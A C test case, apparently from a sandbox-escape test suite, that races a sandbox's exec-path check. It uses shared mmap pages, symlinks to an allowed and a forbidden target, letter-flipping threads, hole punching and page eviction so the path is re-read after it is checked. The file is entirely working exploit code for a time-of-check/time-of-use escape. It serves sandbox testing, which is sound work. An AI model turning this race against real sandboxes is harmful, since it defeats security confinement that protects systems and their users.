// escape: the path lies on a page of a file that is thrown away all the time, and has to be read again
// group: argument races
// policy: exec
// attempts: 1500
#include "escape.h"

static void attack(void) {
  if (symlink(GOOD, "/tmp/a") < 0 || symlink(forbidden(), "/tmp/b") < 0) broken("symlink");
  const int file = open("/tmp/path", O_RDWR | O_CREAT, 0600);
  if (file < 0 || ftruncate(file, 8192) < 0) broken("file");
  char* pages = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
  if (pages == MAP_FAILED) broken("mmap");
  // The letter that counts begins the second page.
  char* path = pages + 4096 - 5;
  strcpy(path, "/tmp/a");
  if (beside()) {
    struct flip flip = {path + 5, "a", "b", 1};
    flip_for_ever(&flip);
  }
  if (beside()) {
    for (;;)
      fallocate(file, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 4096 + 2, 4000),
          madvise(pages, 8192, MADV_DONTNEED);
  }
  while (more()) {
    if (!in_child()) continue;
    madvise(pages, 8192, MADV_DONTNEED);
    run(path);
    _exit(1);
  }
}
